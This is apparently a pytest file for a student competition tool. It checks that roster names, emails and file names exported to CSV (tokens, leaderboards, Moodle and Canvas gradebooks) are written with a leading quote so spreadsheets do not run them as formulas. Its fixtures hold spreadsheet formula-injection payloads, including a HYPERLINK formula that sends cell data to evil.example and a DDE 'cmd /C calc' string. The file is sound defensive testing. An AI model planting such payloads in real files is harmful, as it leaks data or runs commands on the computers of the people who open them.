"""Roster cells that a spreadsheet would run as formulas (issue 34, item 7): `participants --add` warns,
and every CSV the organizer opens in a spreadsheet (leaderboard.csv from the command and the Organizer
page, the Moodle and Canvas gradebook files, the tokens file, `inpaint leaderboard --csv`) writes them
with a leading quote (OWASP's rule), while number columns stay numbers."""
import csv
import io
import re
from datetime import datetime, timedelta, timezone

import pandas as pd
import pytest

pytest.importorskip("fastapi")
from fastapi.testclient import TestClient  # noqa: E402

from competition.api import create_app  # noqa: E402
from competition_fixtures import Clock, make_competition, offset_csv  # noqa: E402
from submission.spreadsheet_cells import FORMULA_STARTS, inert_table  # noqa: E402

NOW = datetime.now(timezone.utc).replace(microsecond=0)
HOSTILE = [("=HYPERLINK(\"http://evil.example?\"&A2,\"see\")", "hyper@uni.example", "=1+2"),
           ("@SUM(1+1)*cmd|' /C calc'!A0", "at@uni.example", "+S7310047"),
           ("-2+3 Dash", "-dash@uni.example", "S7310048"),
           ("Tab Name", "tab@uni.example", "S7310049")]  # the roster reader strips tabs and returns around cells


def rows_of(path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


def assert_no_formula(rows: list[list[str]]) -> None:
    cells = [c for row in rows for c in row]
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)], [c for c in cells if c.startswith(FORMULA_STARTS)]


def test_text_cells_get_a_quote_and_a_negative_number_stays_a_number():
    table = pd.DataFrame({"name": ["=1+2", "plain", "-x", None, "\tcmd", "@A1"], "score": [-0.5, 0.25, -1e-9, 2.0, -3, 0],
                          "rank": pd.array([1, 2, None, 4, 5, 6], dtype="Int64")})
    text = inert_table(table).to_csv(index=False, lineterminator="\n")
    assert text.splitlines()[1:] == ["'=1+2,-0.5,1", "plain,0.25,2", "'-x,-1e-09,", ",2.0,4", "'\tcmd,-3.0,5", "'@A1,0.0,6"]
    assert table["name"][0] == "=1+2"  # the caller's table is not changed


@pytest.fixture
def hostile_class(tmp_path, run_cli):
    comp = make_competition(tmp_path, people=[("Ann Archer", "ann@uni.example", "S7310001", "")],
                            deadline=NOW - timedelta(hours=1))
    roster = tmp_path / "roster.csv"
    with open(roster, "w", newline="", encoding="utf-8") as fh:
        writer = csv.writer(fh)
        writer.writerow(["name", "email", "student_id"])
        writer.writerows(HOSTILE)
    code, said, err = run_cli("competition", "participants", "--dir", comp.dir, "--add", roster)
    assert code == 0, err
    with TestClient(create_app(comp.dir, clock=Clock(NOW - timedelta(days=1)))) as client:
        admin = {"Authorization": f"Bearer {comp.admin}"}
        assert client.get("/api/admin/participants", headers=admin).status_code == 200
        with open(sorted((comp.dir / "secrets").glob("tokens-*"))[-1], newline="", encoding="utf-8") as fh:
            tokens = {row["email"]: row["token"] for row in csv.DictReader(fh)}  # names are written quoted
        for (_, email, _), offset in zip(HOSTILE, (0.01, 0.02, 0.03, 0.04)):
            answer = client.post("/api/submissions", content=offset_csv(comp.dir, offset, offset),
                                 headers={"Authorization": f"Bearer {tokens[email.replace('-', chr(39) + '-', 1) if email.startswith('-') else email]}",
                                          "Content-Type": "text/csv"})
            assert answer.status_code == 201 and answer.json()["status"] == "accepted", answer.text
    return comp, said


def test_participants_add_warns_and_the_tokens_file_is_inert(hostile_class):
    comp, said = hostile_class
    assert "warning: 6 roster cell(s) begin with = + - @" in said and "'=1+2'" in said
    rows = rows_of(sorted((comp.dir / "secrets").glob("tokens-*"))[-1])
    assert_no_formula(rows)
    assert ["'" + HOSTILE[0][0], HOSTILE[0][1], "'=1+2"] == next(r[:3] for r in rows if "hyper@" in r[1])


def test_leaderboard_and_gradebook_files_hold_no_formula_and_their_numbers_parse(hostile_class, run_cli, tmp_path):
    comp, _ = hostile_class
    board = tmp_path / "leaderboard.csv"
    code, _, err = run_cli("competition", "export", "--dir", comp.dir, "--csv", board)
    assert code == 0, err
    rows = rows_of(board)
    assert_no_formula(rows)
    table = pd.read_csv(board)
    assert table["private_rmse"].dtype == "float64" and table["grade"].dtype == "float64"
    assert sorted(table["private_rmse"].round(12)) == [0.01, 0.02, 0.03, 0.04]
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in set(table["name"]) and "'+S7310047" in set(table["student_id"])
    for lms, key in (("moodle", "email"), ("moodle", "student_id"), ("canvas", "email")):
        out = tmp_path / f"{lms}-{key}.csv"
        code, _, err = run_cli("competition", "export", "--dir", comp.dir, "--format", "gradebook", "--lms", lms,
                               *(["--key", key] if lms == "moodle" else []), "--csv", out)
        assert code == 0, err
        rows = rows_of(out)
        assert_no_formula(rows)
        grades = [float(r[-1]) for r in rows[2:]] if lms == "canvas" else [float(r[2]) for r in rows[1:]]
        assert len(grades) == 5 and all(0 <= g <= 10 for g in grades)
        assert "'-2+3 Dash" in {c for r in rows for c in r}


def test_the_organizer_pages_leaderboard_csv_is_inert(hostile_class):
    comp, _ = hostile_class
    with TestClient(create_app(comp.dir)) as browser:
        page = browser.get("/signin")
        csrf = re.search(r'name="csrf" value="([^"]+)"', page.text).group(1)
        assert browser.post("/signin", data={"csrf": csrf, "token": comp.admin}).status_code == 200
        answer = browser.get("/organizer/leaderboard.csv")
    assert answer.status_code == 200
    rows = list(csv.reader(io.StringIO(answer.text, newline="")))
    assert len(rows) == 5
    assert_no_formula(rows)
    assert any(r[1] == "'" + HOSTILE[0][0] for r in rows[1:])


def test_the_graders_leaderboard_csv_writes_file_names_as_text(tmp_path, run_cli):
    comp = make_competition(tmp_path, people=("ann",))
    files = []
    for name, offset in (("=HYPERLINK(1)", 0.01), ("-team", 0.02), ("plain", 0.03)):
        files.append(tmp_path / f"{name}.csv")
        files[-1].write_bytes(offset_csv(comp.dir, offset, offset))
    out = tmp_path / "board.csv"
    code, _, err = run_cli("leaderboard", *files, "--solution", comp.dir / "solution.csv", "--csv", out)
    assert code == 0, err
    rows = rows_of(out)
    assert_no_formula(rows)
    table = pd.read_csv(out)
    assert table["RMSE"].dtype == "float64" and sorted(table["RMSE"].round(12)) == [0.01, 0.02, 0.03]
    assert {"'=HYPERLINK(1)", "'-team", "plain"} <= {c for r in rows for c in r}
